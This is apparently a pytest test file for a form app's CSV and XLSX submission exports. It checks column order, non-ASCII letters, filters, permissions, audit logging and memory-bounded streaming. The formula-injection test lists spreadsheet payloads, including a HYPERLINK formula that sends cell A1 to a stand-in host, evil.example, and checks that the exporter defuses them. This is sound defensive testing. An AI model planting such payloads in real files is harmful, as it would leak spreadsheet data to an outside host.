"""Exports of a form's submissions as CSV and XLSX, through the real app: columns in form
order, letters intact, group answers flattened, weighted scores, formula injection neutralised,
filters, who may export, and exports streamed in memory bounded by a batch."""

from __future__ import annotations

import csv
import io
import tracemalloc
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from tests.conftest import FormClient
from tests.definitions import base
from tests.test_auth import PASSWORD, sign_in

ROOT = Path(__file__).resolve().parent.parent
SLUG = "export-test"
ADMIN = "bob@example.org"

FIELDS = [
    {"type": "heading", "text": "About the branch"},
    {"name": "branch", "type": "text", "label": {"en": "Branch", "pl": "Filia"},
     "required": True, "identifying": True},
    {"name": "story", "type": "textarea", "label": {"en": "Story", "pl": "Historia"}},
    {"name": "size", "type": "choice", "label": "Size",
     "choices": [{"value": "s", "label": {"en": "Small", "pl": "Mała"}},
                 {"value": "l", "label": {"en": "Large", "pl": "Duża"}}]},
    {"name": "participants", "type": "group", "label": "Participants",
     "item_label": {"en": "Participant", "pl": "Uczestnik"}, "max": 3, "fields": [
        {"name": "full_name", "type": "text", "label": "Full name", "required": True},
        {"name": "diet", "type": "choice", "label": "Diet", "required": True,
         "choices": [{"value": "none", "label": "No needs"},
                     {"value": "vegan", "label": {"en": "vegan", "pl": "wegańska"}}]},
     ]},
]  # fmt: skip
RUBRIC = [
    {"key": "fit", "label": "Fit", "weight": 1},
    {"key": "idea", "label": "Idea", "weight": 3},
]
HEADER = [
    "Reference",
    "State",
    "Submitted at",
    "Last changed",
    "Branch",
    "Story",
    "Size",
    "Participants (count)",
    "Score (weighted average)",
    "Scorers",
    "Tags",
]


def definition(slug: str = SLUG, fields: list | None = None, **extra) -> dict:
    return base(slug, [{"title": "All", "fields": fields or FIELDS}], rubric=RUBRIC, **extra)


def send(app, answers: dict, slug: str = SLUG) -> int:
    """Submit over HTTP like an applicant; returns the new submission's id."""
    from extensions import db
    from models import Submission

    client = FormClient(app.test_client())
    response = client.fill(slug, 1, answers)
    assert response.status_code == 302, client.last_html[:2000]
    client.get(f"/calls/{slug}/check")
    assert client.post(f"/calls/{slug}/check", {}).status_code == 302
    with app.app_context():
        return db.session.scalar(select(Submission.id).order_by(Submission.id.desc()).limit(1))


def answers(branch: str, story: str = "", size: str = "s", people=()) -> dict:
    data = {"branch": branch, "story": story, "size": size}
    for index, (name, diet) in enumerate(people):
        data[f"participants-{index}-full_name"] = name
        data[f"participants-{index}-diet"] = diet
    return data


def staff(app, email: str, role: str = "call_manager", forms: tuple[str, ...] = ()) -> str:
    args = ["users", "create", email, "--role", role]
    for slug in forms:
        args += ["--form", slug]
    result = app.test_cli_runner().invoke(args=args, input=f"{PASSWORD}\n{PASSWORD}\n")
    assert result.exit_code == 0, result.output
    return email


def signed_in(app, email: str) -> FormClient:
    client = FormClient(app.test_client())
    assert sign_in(client, email).status_code == 302
    return client


def user_id(app, email: str) -> int:
    from extensions import db
    from models import User

    with app.app_context():
        return db.session.scalar(select(User.id).where(User.email == email))


def form_id(app, slug: str = SLUG) -> int:
    from extensions import db
    from models import Form

    with app.app_context():
        return db.session.scalar(select(Form.id).where(Form.slug == slug))


def as_user(app, email: str, work):
    """Run a review service as the signed-in person would."""
    from extensions import db
    from models import User

    with app.test_request_context():
        return work(db.session.scalar(select(User).where(User.email == email)))


def score(app, email: str, submission_id: int, fit: int, idea: int) -> None:
    from services.scoring import save_scores

    as_user(
        app, email, lambda u: save_scores(submission_id, u, {"fit": str(fit), "idea": str(idea)})
    )


def tag(app, submission_id: int, *names: str, email: str = "rita@example.org") -> None:
    from services.annotations import add_tag

    for name in names:
        as_user(app, email, lambda u, name=name: add_tag(submission_id, u, name))


def set_submitted_at(app, submission_id: int, moment: datetime) -> None:
    from extensions import db
    from models import Submission

    with app.app_context():
        db.session.get(Submission, submission_id).submitted_at = moment
        db.session.commit()


def csv_rows(response) -> list[list[str]]:
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff"), "no byte order mark: Excel would garble the letters"
    return list(csv.reader(io.StringIO(text[1:])))


def xlsx_rows(response, sheet: int = 0) -> list[list[str]]:
    """The cells of a sheet as the CSV writes them (times without their offset: XLSX has none)."""
    book = load_workbook(io.BytesIO(response.get_data()), read_only=True)
    rows = [[as_text(v) for v in row] for row in book.worksheets[sheet].iter_rows(values_only=True)]
    width = len(rows[0])  # a row's empty cells at its end are not in the file
    return [row + [""] * (width - len(row)) for row in rows]


def as_text(value) -> str:
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.isoformat(timespec="seconds")
    if isinstance(value, float):
        return f"{value:.2f}"
    return str(value)


@pytest.fixture
def reviewer(app, create_form):
    create_form(definition())
    return staff(app, "rita@example.org", forms=(SLUG,))


@pytest.fixture
def filled(app, reviewer):
    """Three submissions: Polish and Swedish letters, a group, scores, tags, a state change."""
    from services.transitions import Actor, transition

    first = send(
        app,
        answers(
            "Filia nr 12 — Łódź",
            "Zażółć gęślą jaźń: ąćęłńóśźż ĄĆĘŁŃÓŚŹŻ",
            "l",
            [("Anna Nowak", "vegan"), ("Åsa Öberg", "none")],
        ),
    )
    second = send(app, answers("Biblioteket i Växjö", "Räksmörgås åäö ÅÄÖ", "s"))
    third = send(app, answers("Filia Bałuty", "", "s", [("Łukasz Żak", "none")]))
    with app.app_context():
        transition(second, "start_review", Actor("reviewer", None))
    staff(app, ADMIN, "admin")
    # Rita: (1·4 + 3·2) / 4 = 2.5; the admin: 5; the reviewers' average: 3.75.
    score(app, reviewer, first, fit=4, idea=2)
    score(app, ADMIN, first, fit=5, idea=5)
    score(app, ADMIN, second, fit=3, idea=3)  # Rita has not scored this one
    tag(app, first, "Wrocław", "priority")
    tag(app, third, "priority")
    return [first, second, third]


def test_csv_has_a_column_per_question_in_form_order_with_state_scores_and_tags(
    app, reviewer, filled
):
    client = signed_in(app, reviewer)
    response = client.client.get(f"/dashboard/exports/{form_id(app)}.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="{SLUG}-submissions.csv"'
    )
    assert response.headers["Cache-Control"] == "no-store"
    rows = csv_rows(response)
    assert rows[0] == HEADER
    assert len(rows) == 4
    first, second, third = rows[1:]
    year = datetime.now(UTC).year
    assert [r[0] for r in rows[1:]] == [
        f"TEST-{year}-0001",
        f"TEST-{year}-0002",
        f"TEST-{year}-0003",
    ]
    assert first[1:2] + first[4:] == [
        "Submitted",
        "Filia nr 12 — Łódź",
        "Zażółć gęślą jaźń: ąćęłńóśźż ĄĆĘŁŃÓŚŹŻ",
        "Large",
        "2",  # the participants themselves are in a table of their own
        "3.75",
        "2",
        "priority, wrocław",
    ]
    assert second[1] == "In review"
    # Scores stay hidden from a reviewer until they have scored themselves; the count shows.
    assert second[4:] == ["Biblioteket i Växjö", "Räksmörgås åäö ÅÄÖ", "Small", "", "", "1", ""]
    assert third[4:] == [
        "Filia Bałuty",
        "",
        "Small",
        "1",
        "",
        "0",
        "priority",
    ]
    # Times in the form's time zone (Europe/Warsaw), to the second, with the offset.
    submitted = datetime.fromisoformat(first[2])
    assert submitted.utcoffset() is not None and submitted.utcoffset().total_seconds() in (
        3600,
        7200,
    )
    assert abs((datetime.now(UTC) - submitted).total_seconds()) < 300


def test_xlsx_has_the_same_rows_as_the_csv(app, reviewer, filled):
    client = signed_in(app, reviewer)
    url = f"/dashboard/exports/{form_id(app)}"
    response = client.client.get(url + ".xlsx")
    assert response.status_code == 200
    assert response.mimetype == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert f"{SLUG}-submissions.xlsx" in response.headers["Content-Disposition"]
    rows = xlsx_rows(response)
    assert rows[0] == HEADER
    from_csv = csv_rows(client.client.get(url + ".csv"))
    for row in from_csv[1:]:  # the same moments, the XLSX's in the form's zone without it
        row[2:4] = [datetime.fromisoformat(t).replace(tzinfo=None).isoformat() for t in row[2:4]]
    assert rows == from_csv
    assert "Zażółć gęślą jaźń: ąćęłńóśźż ĄĆĘŁŃÓŚŹŻ" in rows[1]
    assert "Räksmörgås åäö ÅÄÖ" in rows[2]
    # The participants: a sheet of their own, the same rows as their CSV.
    people = client.client.get(url + "/participants.csv")
    assert people.headers["Content-Disposition"] == (
        f'attachment; filename="{SLUG}-participants.csv"'
    )
    assert xlsx_rows(response, 1) == csv_rows(people)
    sheets = load_workbook(io.BytesIO(response.get_data()), read_only=True).sheetnames
    assert sheets == ["Submissions", "Participants"]


def test_a_group_has_a_row_per_item_with_whose_it_is(app, reviewer, filled):
    client = signed_in(app, reviewer)
    rows = csv_rows(client.client.get(f"/dashboard/exports/{form_id(app)}/participants.csv"))
    first, third = (f"TEST-{datetime.now(UTC).year}-000{n}" for n in (1, 3))
    assert rows == [
        ["Reference", "State", "Branch", "Size", "Participant no.", "Full name", "Diet"],
        [first, "Submitted", "Filia nr 12 — Łódź", "Large", "1", "Anna Nowak", "vegan"],
        [first, "Submitted", "Filia nr 12 — Łódź", "Large", "2", "Åsa Öberg", "No needs"],
        [third, "Submitted", "Filia Bałuty", "Small", "1", "Łukasz Żak", "No needs"],
    ]
    filtered = f"/dashboard/exports/{form_id(app)}/participants.csv?tag=wrocław"
    assert [r[5] for r in csv_rows(client.client.get(filtered))[1:]] == ["Anna Nowak", "Åsa Öberg"]
    polish = f"/dashboard/exports/{form_id(app)}/participants.csv?lang=pl"
    assert csv_rows(client.client.get(polish))[0][4:] == ["Uczestnik nr", "Full name", "Diet"]


def test_a_table_that_is_not_there_is_not_found(app, reviewer, filled):
    client = signed_in(app, reviewer)
    for name in ("nothing", "branch", "submissions", "full_name"):
        assert client.client.get(f"/dashboard/exports/{form_id(app)}/{name}.csv").status_code == 404


def test_the_export_is_in_the_language_of_the_page_where_the_form_offers_it(app, reviewer, filled):
    client = signed_in(app, reviewer)
    rows = csv_rows(client.client.get(f"/dashboard/exports/{form_id(app)}.csv?lang=pl"))
    assert rows[0][4:6] == ["Filia", "Historia"]
    assert rows[1][1] == "Złożone"
    assert rows[0][7] == "Participants (liczba)"
    assert rows[1][6:8] == ["Duża", "2"]
    people = csv_rows(
        client.client.get(f"/dashboard/exports/{form_id(app)}/participants.csv?lang=pl")
    )
    assert people[1][1:] == ["Złożone", "Filia nr 12 — Łódź", "Duża", "1", "Anna Nowak", "wegańska"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
]


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_formulas_in_answers_and_tags_come_back_as_text(app, reviewer, kind):
    ids = [send(app, answers(formula, formula, "s", [(formula, "none")])) for formula in FORMULAS]
    tag(app, ids[0], "=1+1")
    client = signed_in(app, reviewer)
    response = client.client.get(f"/dashboard/exports/{form_id(app)}.{kind}")
    if kind == "csv":  # an apostrophe: a spreadsheet opening the file would run the rest
        rows = csv_rows(response)
        people = csv_rows(client.client.get(f"/dashboard/exports/{form_id(app)}/participants.csv"))
        for formula, row, person in zip(FORMULAS, rows[1:], people[1:], strict=True):
            assert row[4] == row[5] == person[2] == person[5] == "'" + formula
        assert rows[1][10] == "'=1+1"
        return
    # In XLSX the value stays as given, in a text cell (never run) marked as typed-in text.
    book = load_workbook(io.BytesIO(response.get_data()))
    texts = [
        cell for sheet in book.worksheets for row in sheet.iter_rows(min_row=2) for cell in row
        if isinstance(cell.value, str) and cell.value[:1] in "=+-@"
    ]  # fmt: skip
    assert sorted(c.value for c in texts) == sorted([*FORMULAS * 2, *FORMULAS * 2, "=1+1"])
    assert all(c.data_type == "s" and c.quotePrefix for c in texts)


def test_neutralise_prefixes_only_what_a_spreadsheet_would_run():
    from services.exports import neutralise

    for text in ["=1", "+1", "-1", "@A1", "\t=1", "\r=1"]:
        assert neutralise(text) == "'" + text
    for text in ["", "1", "a=b", " Anna", "'=1", "ąę"]:
        assert neutralise(text) == text


def test_xlsx_drops_control_characters_without_uncovering_a_formula():
    from services.exports import Table, write_xlsx

    target = io.BytesIO()
    row = ["\x01=1+1", "Zeile\x0bmit Steuerzeichen", "x" * 40000]
    write_xlsx([Table("t", "T", ["A", "B", "C"])], [("t", row)], target)
    target.seek(0)
    cells = next(load_workbook(target).active.iter_rows(min_row=2))
    assert [c.value for c in cells] == ["=1+1", "Zeilemit Steuerzeichen", "x" * 32767]
    assert cells[0].data_type == "s" and cells[0].quotePrefix


@pytest.mark.parametrize(
    ("query", "branches"),
    [
        ("", ["Filia nr 12 — Łódź", "Biblioteket i Växjö", "Filia Bałuty"]),
        ("?state=in_review", ["Biblioteket i Växjö"]),
        (
            "?state=in_review&state=submitted",
            ["Filia nr 12 — Łódź", "Biblioteket i Växjö", "Filia Bałuty"],
        ),
        ("?state=accepted", []),
        ("?tag=priority", ["Filia nr 12 — Łódź", "Filia Bałuty"]),
        ("?tag=wrocław", ["Filia nr 12 — Łódź"]),
        ("?tag=+WROCŁAW+", ["Filia nr 12 — Łódź"]),  # tags are compared as they are stored
        ("?tag=nothing", []),
        ("?q=anna", ["Filia nr 12 — Łódź"]),  # in a group answer, other case
        ("?q=łukasz", ["Filia Bałuty"]),  # non-ASCII, other case
        ("?q=RÄKSMÖRGÅS", ["Biblioteket i Växjö"]),
        ("?q=100%25", []),  # % is a character, not a wildcard
        ("?q=-0002", ["Biblioteket i Växjö"]),  # the reference
        ("?from=2026-03-02", ["Biblioteket i Växjö", "Filia Bałuty"]),
        ("?to=2026-03-01", ["Filia nr 12 — Łódź"]),
        ("?from=2026-03-02&to=2026-03-02", ["Biblioteket i Växjö"]),
        ("?from=2026-03-02&tag=priority&q=bałuty", ["Filia Bałuty"]),
    ],
)
def test_filters_narrow_the_export(app, reviewer, filled, query, branches):
    # Days are the form's (Warsaw): 23:30 UTC on 1 March is already 2 March in Warsaw.
    set_submitted_at(app, filled[0], datetime(2026, 3, 1, 22, 59, tzinfo=UTC))
    set_submitted_at(app, filled[1], datetime(2026, 3, 1, 23, 30, tzinfo=UTC))
    set_submitted_at(app, filled[2], datetime(2026, 3, 3, 8, 0, tzinfo=UTC))
    client = signed_in(app, reviewer)
    for kind in ("csv", "xlsx"):
        response = client.client.get(f"/dashboard/exports/{form_id(app)}.{kind}{query}")
        assert response.status_code == 200
        rows = csv_rows(response) if kind == "csv" else xlsx_rows(response)
        assert rows[0] == HEADER
        assert [row[4] for row in rows[1:]] == branches


def test_a_date_that_is_not_a_date_is_refused_with_a_message(app, reviewer, filled):
    client = signed_in(app, reviewer)
    for kind in ("csv", "xlsx"):
        response = client.get(f"/dashboard/exports/{form_id(app)}.{kind}?from=1.3.2026")
        assert response.status_code == 400
        assert "Enter dates like 2027-01-31." in client.last_html
        assert "attachment" not in response.headers.get("Content-Disposition", "")


def test_anonymous_visitors_are_sent_to_sign_in(app, client, reviewer):
    for kind in ("csv", "xlsx"):
        response = client.client.get(f"/dashboard/exports/{form_id(app)}.{kind}")
        assert response.status_code == 302 and "/login" in response.headers["Location"]


def test_only_reviewers_of_the_form_and_admins_may_export(app, create_form, reviewer, filled):
    create_form(definition("other-call"))
    other = signed_in(app, staff(app, "otto@example.org", forms=("other-call",)))
    everything = signed_in(app, ADMIN)
    known, unknown = form_id(app), form_id(app, "other-call") + 100
    for kind in ("csv", "xlsx"):
        # Someone else's form looks exactly like one that does not exist.
        assert other.client.get(f"/dashboard/exports/{known}.{kind}").status_code == 404
        assert other.client.get(f"/dashboard/exports/{unknown}.{kind}").status_code == 404
        assert everything.client.get(f"/dashboard/exports/{unknown}.{kind}").status_code == 404
        assert everything.client.get(f"/dashboard/exports/{known}.{kind}").status_code == 200
        assert (
            other.client.get(f"/dashboard/exports/{form_id(app, 'other-call')}.{kind}").status_code
            == 200
        )


def test_every_export_is_in_the_audit_log(app, reviewer, filled):
    from extensions import db
    from models import AuditEntry

    client = signed_in(app, reviewer)
    client.client.get(f"/dashboard/exports/{form_id(app)}.csv?state=submitted&q=anna")
    client.client.get(f"/dashboard/exports/{form_id(app)}.xlsx")
    with app.app_context():
        entries = db.session.scalars(
            select(AuditEntry)
            .where(AuditEntry.action == "submissions.exported")
            .order_by(AuditEntry.id)
        ).all()
        assert [(e.form_id, e.actor_id, e.actor_type) for e in entries] == [
            (form_id(app), user_id(app, reviewer), "reviewer")
        ] * 2
        assert entries[0].data == {
            "format": "csv",
            "filters": {"state": ["submitted"], "q": "anna"},
        }
        assert entries[1].data == {"format": "xlsx", "filters": {}}
    client.client.get(f"/dashboard/exports/{form_id(app)}/participants.csv?tag=priority")
    with app.app_context():
        last = db.session.scalars(select(AuditEntry).order_by(AuditEntry.id.desc())).first()
        assert last.data == {
            "format": "csv",
            "filters": {"tag": "priority"},
            "table": "participants",
        }


def test_the_dashboard_links_to_the_exports(app, reviewer):
    client = signed_in(app, reviewer)
    html = client.get("/dashboard/").get_data(as_text=True)
    assert f'href="/dashboard/exports/{form_id(app)}.csv"' in html
    assert f'href="/dashboard/exports/{form_id(app)}.xlsx"' in html
    assert (
        f'Participants, one per row: <a href="/dashboard/exports/{form_id(app)}/participants.csv"'
        in html
    )


def test_blind_review_leaves_identifying_answers_out_except_for_admins(app, create_form):
    create_form(definition("blind", blind_review=True))
    send(app, answers("Filia Widzew", "Opowieść", "s", [("Anna Nowak", "vegan")]), "blind")
    url = f"/dashboard/exports/{form_id(app, 'blind')}.csv"
    rita = signed_in(app, staff(app, "rita@example.org", forms=("blind",)))
    rows = csv_rows(rita.client.get(url))
    assert "Branch" not in rows[0] and "Filia Widzew" not in rows[1]
    assert rows[0][4:7] == ["Story", "Size", "Participants (count)"]
    # Nor can a reviewer find the submission by what they may not see.
    assert len(csv_rows(rita.client.get(url + "?q=widzew"))) == 1
    assert len(csv_rows(rita.client.get(url + "?q=opowieść"))) == 2
    admin = signed_in(app, staff(app, ADMIN, "admin"))
    rows = csv_rows(admin.client.get(url))
    assert rows[0] == HEADER and rows[1][4] == "Filia Widzew"
    assert len(csv_rows(admin.client.get(url + "?q=widzew"))) == 2


def test_scores_are_shown_as_on_the_dashboard(app, reviewer, filled):
    """Admins see every average; a reviewer who declares a conflict sees none (and their own
    scores are removed, so the count drops)."""
    from services.annotations import declare_conflict

    admin = signed_in(app, ADMIN)
    rows = csv_rows(admin.client.get(f"/dashboard/exports/{form_id(app)}.csv"))
    assert [row[8:10] for row in rows[1:]] == [["3.75", "2"], ["3.00", "1"], ["", "0"]]

    as_user(app, reviewer, lambda u: declare_conflict(filled[0], u, "My sister works there."))
    rows = csv_rows(signed_in(app, reviewer).client.get(f"/dashboard/exports/{form_id(app)}.csv"))
    assert [row[8:10] for row in rows[1:]] == [["", "1"], ["", "1"], ["", "0"]]


def test_answers_to_questions_of_earlier_versions_come_last(app, create_form, reviewer):
    old_fields = [*FIELDS, {"name": "budget", "type": "number", "label": "Budget (PLN)"}]
    create_form(definition(fields=old_fields))
    before = send(app, {**answers("Filia Stare Polesie"), "budget": "1500"})
    # Version 3 drops the budget question and asks a new one before the group.
    create_form(
        definition(fields=[*FIELDS[:4], {"name": "why", "type": "text", "label": "Why"}, FIELDS[4]])
    )
    after = send(app, {**answers("Filia Teofilów"), "why": "Sąsiedzi"})
    client = signed_in(app, reviewer)
    for kind in ("csv", "xlsx"):
        response = client.client.get(f"/dashboard/exports/{form_id(app)}.{kind}")
        rows = csv_rows(response) if kind == "csv" else xlsx_rows(response)
        assert rows[0] == [*HEADER[:7], "Why", *HEADER[7:], "Budget (PLN) (earlier version)"]
        assert [row[4] for row in rows[1:]] == ["Filia Stare Polesie", "Filia Teofilów"]
        assert (rows[1][7], rows[1][-1]) == ("", "1500")
        assert (rows[2][7], rows[2][-1]) == ("Sąsiedzi", "")
    assert before < after


def test_batches_follow_submission_order_without_repeating_or_skipping(app, reviewer):
    """Keyset pages of 2: ties on the submission time are ordered by id."""
    from services.exports import export_rows

    ids = [send(app, answers(f"Filia {n}")) for n in range(7)]
    moments = [datetime(2026, 3, 1, 10, m, tzinfo=UTC) for m in (5, 1, 1, 1, 3, 9, 1)]
    for submission_id, moment in zip(ids, moments, strict=True):
        set_submitted_at(app, submission_id, moment)
    with app.test_request_context():
        in_pages = [r[4] for r in list(export_rows(form_id(app), {}, batch_size=2))[1:]]
        at_once = [r[4] for r in list(export_rows(form_id(app), {}, batch_size=1000))[1:]]
    assert in_pages == at_once == [f"Filia {n}" for n in (1, 2, 3, 6, 4, 0, 5)]


def _csv_export_read(client, url: str, queries: list[str]) -> dict:
    """Reads a CSV export to the end like a browser, noting how many batches of submissions
    the app had read when the first row arrived, and the peak of Python allocations."""
    tracemalloc.start()
    baseline = tracemalloc.get_traced_memory()[0]
    response = client.get(url, buffered=False)
    assert response.status_code == 200 and response.is_streamed
    lines, batches_at_first_row = 0, None
    for piece in response.iter_encoded():
        lines += piece.count(b"\n")
        if batches_at_first_row is None and lines >= 2:
            batches_at_first_row = len(queries)
    response.close()
    peak = tracemalloc.get_traced_memory()[1] - baseline
    tracemalloc.stop()
    return {"lines": lines, "batches_first": batches_at_first_row, "peak": peak}


@pytest.mark.slow  # 5000 submissions
def test_a_csv_export_streams_batch_by_batch_in_memory_bounded_by_a_batch(app):
    """What bench/export_memory.py measures at 100 000 rows, as behaviour: the first rows go
    out after one batch of submissions was read, and four times the rows (four batches, a
    file four times larger) need about the memory of one batch, not four times it."""
    from sqlalchemy import event

    from bench.export_memory import fill
    from extensions import db
    from services.exports import BATCH_SIZE

    staff(app, "ada@example.org", role="admin")
    with app.app_context():
        from models import User

        admin = db.session.scalar(select(User.id))
        small = fill(app, "small", BATCH_SIZE, 1, [admin])
        large = fill(app, "large", 4 * BATCH_SIZE, BATCH_SIZE + 1, [admin])
    client = signed_in(app, "ada@example.org").client
    queries: list[str] = []

    def note_batch(_conn, _cursor, statement, *_args):
        if statement.lstrip().startswith("SELECT submissions.id") and "LIMIT" in statement:
            queries.append(statement)

    with app.app_context():
        engine = db.engine
    event.listen(engine, "before_cursor_execute", note_batch)
    try:
        _csv_export_read(client, f"/dashboard/exports/{small}.csv", queries)  # warm caches
        queries.clear()
        one = _csv_export_read(client, f"/dashboard/exports/{small}.csv", queries)
        queries.clear()
        four = _csv_export_read(client, f"/dashboard/exports/{large}.csv", queries)
    finally:
        event.remove(engine, "before_cursor_execute", note_batch)

    assert (one["lines"], four["lines"]) == (BATCH_SIZE + 1, 4 * BATCH_SIZE + 1)
    assert four["batches_first"] == 1  # streamed: the rest was not read yet
    assert len(queries) == 5  # four full batches and the empty one that ends it
    assert four["peak"] < 1.5 * one["peak"], (one["peak"], four["peak"])
